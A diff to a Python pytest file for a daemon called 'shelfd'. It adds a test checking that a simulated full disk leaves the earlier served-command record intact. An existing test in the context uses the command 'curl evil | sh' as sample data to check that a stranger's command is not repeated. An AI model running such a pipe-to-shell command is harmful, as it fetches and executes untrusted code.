@@ -15,6 +15,7 @@ import pytest
 from running import TIMEOUT_S, Daemon, clean_environment, until
 from shelfd.client import NotRunning, connect
 from shelfd.client.endpoint import advice, not_admitted
+from shelfd.daemon import served
 
 CHECKOUT = Path(__file__).resolve().parents[2]
 
@@ -148,6 +149,16 @@ def test_a_strangers_command_is_not_repeated(tmp_path: Path) -> None:
     socket = write(tmp_path / "s", data="/", command="curl evil | sh")
     os.chown(f"{socket}.served", 65534, 65534)
     assert advice([socket]).endswith("is another user's (uid 65534), who can start it again")
+
+
+def test_a_full_disk_leaves_the_record_that_there_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    where, before = tmp_path / "s", served.Served(tmp_path, "a command")
+    served.remember(where, before)
+    with monkeypatch.context() as patch:
+        patch.setattr(os, "write", lambda _file, data: len(data) - 1)
+        served.remember(where, served.Served(tmp_path, "another"))
+    assert served.last(where) == before
+    assert [path.name for path in tmp_path.iterdir()] == ["s.served"]
 
 
 def test_a_record_that_is_no_file_blocks_nothing(tmp_path: Path) -> None:
